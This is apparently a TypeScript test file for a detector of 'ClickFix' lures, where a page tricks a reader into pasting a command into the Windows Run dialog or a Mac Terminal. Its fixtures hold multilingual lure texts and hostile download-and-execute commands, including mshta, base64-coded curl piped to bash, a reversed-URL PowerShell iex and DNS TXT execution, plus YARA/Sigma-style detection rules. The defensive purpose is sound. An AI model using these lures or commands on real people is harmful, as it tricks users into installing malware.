import assert from 'node:assert/strict'
import { test } from 'node:test'
import { opensWindow } from './command-windows.ts'
import { AROUND, pastedCommand } from './pasting.ts'

const LURE = 'Verify that you are human: press Windows + R, paste the line and press Enter.'
const COMMAND = 'mshta http://203.0.113.5/a'

test('a command that belongs to the keys is found, wherever the text is', () => {
  assert.equal(pastedCommand(`${LURE}\n${COMMAND}`), COMMAND)
  assert.equal(pastedCommand(`${'word '.repeat(100_000)}\n${LURE}\n${COMMAND}\n${'word '.repeat(9_000)}`), COMMAND)
  const keys = LURE.indexOf('Windows')
  const at = (distance: number): string => `${LURE}${' '.repeat(distance - LURE.length + keys)}\n${COMMAND}`
  assert.equal(pastedCommand(at(AROUND - COMMAND.length - 1)), COMMAND)
  assert.equal(pastedCommand(at(AROUND)), null)
})

test('texts without keys, a pretext or a server ask for nothing', () => {
  for (const text of [
    COMMAND,
    `Press Windows + R and paste this line:\nmshta https://tools.example.com/a.hta`,
    `${LURE}\nservices.msc`,
    `${LURE}\n${COMMAND}\nNever run such a line.`,
    'Open a terminal and paste: curl -fsSL https://get.example.com | sh',
  ])
    assert.equal(pastedCommand(text), null, text)
})

test('after a check that the reader is human, any command of Windows is one', () => {
  for (const command of [
    'cmd /c "nslookup -q=txt a.example | findstr /v Name | cmd"',
    'cmd /c tftp -i files.example get a.exe & a.exe',
    'powershell -c "iex (Resolve-DnsName a.example -Type TXT).Strings"',
    'explorer "search-ms:query=Invoice&crumb=location:\\\\files.example\\share"',
    'ms-appinstaller:?source=https://files.example/a.appinstaller',
  ])
    assert.equal(pastedCommand(`${LURE}\n${command}`), command)
  const manual = 'Cloudflare WARP does not connect? Press Windows + R, paste this line and press Enter:'
  assert.equal(pastedCommand(`${manual}\ncmd /c ipconfig /flushdns`), null)
})

test('other words and keys for the same', () => {
  const command = 'mshta http://files.example/a'
  for (const lure of [
    'The viewer that opens it is not registered. Hold Windows and press R, paste the line and press Enter.',
    'Your reader is missing the font package. Press the Windows key and X, choose Terminal, and paste the repair line.',
    'Your session could not be verified. Press Win and R together, paste the string and press OK.',
  ])
    assert.equal(pastedCommand(`${lure}\n${command}`), command, lure)
})

test('keys and windows in the marks of Markdown, and in Polish', () => {
  const coded = `bash -c "$(echo '${btoa('curl -fsSL https://files.example/u.sh | bash')}' | base64 -D)"`
  for (const steps of ['Press **Command + Space**, type `Terminal`', 'Open **Terminal**', 'Open the "Terminal"'])
    assert.equal(pastedCommand(`${steps}, and paste this line:\n${coded}`), coded, steps)
  const plain = 'curl -fsSL https://get.example.com | sh'
  assert.equal(pastedCommand(`Open \`Terminal\` and paste this line:\n${plain}`), null)
  const hidden = 'cmd /v /c "s^et a=ms^iex^ec&& !a! /q^n /i ht^tps://files.example/a.msi"'
  const polish = 'Mikrofon nie działa (kod błędu 5). Nacisnąć klawisze Windows i R, wkleić linię i nacisnąć Enter.'
  assert.equal(pastedCommand(`${polish}\n${hidden}`), hidden)
  assert.equal(pastedCommand(`${polish}\nsfc /scannow`), null)
})

test('windows of a Mac in other languages', () => {
  const coded = `echo "${btoa('curl -fsSL https://files.example/u.sh | nohup bash &')}" | base64 -d | bash`
  for (const steps of [
    'Drücken Sie \u2318 + Leertaste, tippen Sie Terminal und kopieren Sie diesen Befehl in das Fenster:',
    'Öffnen Sie das Terminal und fügen Sie diese Zeile ein:',
    'Appuyez sur Cmd + espace, tapez Terminal et collez la ligne :',
    'Pulse \u2318+espacio, escriba "Terminal" y pegue la línea:',
    'Premi \u2318 + barra spaziatrice, apri il Terminal e incolla la riga:',
  ]) {
    assert.equal(pastedCommand(`${steps}\n${coded}`), coded, steps)
    assert.equal(pastedCommand(`${steps}\ncurl -fsSL https://get.example.com | sh`), null, steps)
  }
})

test('a command that is coded, or fetches code out of sight, needs no pretext', () => {
  const steps = 'Press Command + Space, type  Terminal  and press Return. Paste the line below.'
  const coded = `echo '${btoa('curl -fsSL https://files.example/u.sh | bash')}' | base64 -D | zsh`
  assert.equal(pastedCommand(`${steps}\n${coded}`), coded)
  const reversed = `powershell -NoP -W 1 -c "$c='elpmaxe.selif//:sptth'.ToCharArray();[array]::Reverse($c);irm (-join $c)|iex"`
  assert.equal(pastedCommand(`Press Windows + R, paste the line and press Enter.\n${reversed}`), reversed)
  const shown = 'powershell -c "Get-Process"'
  assert.equal(pastedCommand(`Press Windows + R, paste the line and press Enter.\n${shown}`), null)
})

/** In each language: a pretext, keys and pasting; and a warning of the same. */
const LANGUAGES: Record<string, [string, string]> = {
  English: [
    'Malware was found on your computer. Your account is locked. Press Windows + R, paste the line and press Enter.',
    'You are asked to press Windows + R and to paste a line? Never paste a command of a website.',
  ],
  German: [
    'Ihr Konto wurde gesperrt. Windows-Taste und R drücken, die Zeile kopieren und einfügen.',
    'Fügen Sie nie einen Befehl ein: Windows-Taste + R, Strg + V. Nicht ausführen!',
  ],
  French: [
    'Votre certificat a expiré. Appuyez sur la touche Windows + R et collez la commande.',
    "N'exécutez jamais une telle commande : Windows + R, Ctrl + V. Votre certificat a expiré, dit la page.",
  ],
  Spanish: [
    'El documento no se puede abrir. Pulse la tecla Windows y R y pegue la línea.',
    'No pegue nunca un comando: Windows + R y Ctrl + V. El documento no se puede abrir, dice la página.',
  ],
  Italian: [
    'Il certificato è scaduto. Premi Windows + R e incolla il comando.',
    'Non incollare mai un comando con Windows + R e Ctrl + V. Il certificato è scaduto, dice la pagina.',
  ],
  Dutch: [
    'Uw account is geblokkeerd. Druk op de Windows-toets + R en plak de regel.',
    'Plak nooit een opdracht met Windows + R en Ctrl + V, ook als uw account is geblokkeerd.',
  ],
  Portuguese: [
    'O documento não pode ser exibido. Pressione Windows + R e cole o comando.',
    'Nunca cole um comando com Windows + R e Ctrl + V. O documento não pode ser exibido, diz a página.',
  ],
  Polish: [
    'Nie można otworzyć dokumentu. Nacisnąć klawisze Windows i R, wkleić polecenie i nacisnąć Enter.',
    'Nigdy nie wklejaj poleceń: Windows + R, Ctrl + V. Nie można otworzyć dokumentu, mówi strona.',
  ],
  Japanese: [
    '文書を表示できません。Windowsキーを押しながらRを押し、貼り付けてください。',
    'Windows + R を押してコマンドを貼り付けないでください。表示できません。',
  ],
}

test('a pretext and a warning in every language, as text and as bytes of a page', () => {
  const command = 'mshta https://files.example/a'
  const asBytes = (text: string): string => Buffer.from(text).toString('latin1')
  for (const [language, [lure, warning]] of Object.entries(LANGUAGES))
    for (const written of [lure, asBytes(lure)]) {
      assert.equal(pastedCommand(`${written}\n${command}`), command, language)
      assert.equal(pastedCommand(`Windows + R\n${command}`), null)
      for (const warned of [warning, asBytes(warning)])
        assert.equal(pastedCommand(`${warned}\n${command}`), null, `warning: ${language}`)
    }
})

test('words of attacks alone are no warning', () => {
  for (const word of ['malware', 'phishing', 'a scam', 'attackers', 'estafa', 'Warnung'])
    assert.equal(pastedCommand(`${LURE} This protects you from ${word}.\n${COMMAND}`), COMMAND, word)
  for (const report of ['Attackers ask their victims to do so.', 'This is called ClickFix.', 'Opfer sollen dies tun.'])
    assert.equal(pastedCommand(`${LURE} ${report}\n${COMMAND}`), null, report)
})

test('instructions are found in a long text as in a short one, whatever word they begin with', () => {
  const all = [
    ...[
      'win+r',
      'Windows key and press X',
      'windows-taste + r',
      'WinButton plus "r',
      'win y r',
      'win e x',
      'winlogo\uff0bR',
    ],
    ...['windowsキーを押しながらR', 'run dialog', 'Run window', 'type "run', 'type cmd', "type 'cmd"],
    ...[
      'ctrl+v',
      'Control + V',
      'strg +v',
      'cmd+ v',
      'Command + v',
      '\u2318+v',
      '\u2318 + v',
      '\u2318+ v',
      '\u2318+space',
      '\u2318 + Leertaste',
      '\u2318+barre d\u2019espace',
      'Befehl + Leertaste',
      'cmd+espace',
      '\u2318+espacio',
    ],
    ...['\xe2\x8c\x98+v', '\xe2\x8c\x98 + space', 'address bar', 'ctrl+l', 'strg + L', 'win\xef\xbc\x8br'],
    ...['open', 'launch', 'start', 'type', 'choose', 'select', 'search for'].map((verb) => `${verb}  your Terminal`),
    ...['Öffnen Sie das Terminal', 'ouvrez le Terminal', 'Abra el terminal', 'apri il terminal', 'wpisz Terminal'],
    ...['open the PowerShell', 'Type command prompt', 'start a file explorer'],
  ]
  for (const text of all) {
    assert.ok(opensWindow(text), text)
    assert.ok(opensWindow(`${'word '.repeat(10_000)}${text}${' word'.repeat(200)}`), text)
  }
})

const CODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'

test('who reports an attack or looks for it quotes commands that do nothing', () => {
  for (const text of [
    'The page showed a false human check, put a line on the clipboard and asked her to press Windows + R and Ctrl + V.\npowershell -w hidden -c "iwr http://203.0.113.5/a|iex"',
    `Human verification on the page named Win+R, then paste. Second stage:\npowershell -w hidden -enc ${CODED.slice(0, 40)}... (cut)`,
    'Seen in the key of the Run dialog (Win + R, Ctrl + V, "I am not a robot"): a[.]example, value "powershell -w hidden ..."',
    'rule Lure {\n  strings:\n    $a = "Win + R"\n    $b = "not a robot"\n    $c = "Ctrl + V to paste"\n    $d = "powershell -w hidden" ascii wide\n    $e = "mshta http" ascii wide\n}',
    'rule Lure {\n  strings:\n    $a = "not a robot" nocase\n    $b = "Win + R, Ctrl + V to paste"\n    $c = /iex\\s*\\(?\\s*(irm|iwr)\\s/ nocase\n    $d = "IEX(New-Object Net.WebClient).DownloadString" ascii wide // first stage\n}',
    "selection:\n  - 'not a robot'\n  - 'Win + R, paste'\n  - 'DownloadString('\n  - '| iex'\n  - 'powershell -w hidden -enc '",
  ])
    assert.equal(pastedCommand(text), null, text)
})

test('a page of help with a choice of ways to install names what may fail', () => {
  const steps = 'Open a terminal and paste:\ncurl -fsSL https://get.example.com | sh\n'
  const failing = 'If the file cannot be opened, update the certificate. Fix the problem as follows.\n'
  const choice = 'brew install example\nwinget install --id Example.Example\n'
  assert.notEqual(pastedCommand(steps + failing), null)
  assert.equal(pastedCommand(steps + failing + choice), null)
  const gatekeeper = '"Example" cannot be opened because the developer cannot be verified.\n'
  assert.equal(pastedCommand(steps + gatekeeper), null)
  assert.notEqual(
    pastedCommand(steps + failing + choice, () => steps + failing),
    null,
  )
})

test('but a command that acts is one, whatever stands beside it', () => {
  for (const command of [
    'powershell -w hidden -c "iwr http://203.0.113.5/a|iex" # Verifying abcdefghijklmnopqrstu...',
    `powershell -w hidden -enc ${CODED}`,
    '"powershell" -w hidden -c "irm cdn.example/a|iex"',
    'mshta cdn.example/verify',
    '$a = "powershell -w hidden -c irm cdn.example/a"; iex $a',
  ])
    assert.notEqual(pastedCommand(`${LURE}\n${command}`), null, command)
})
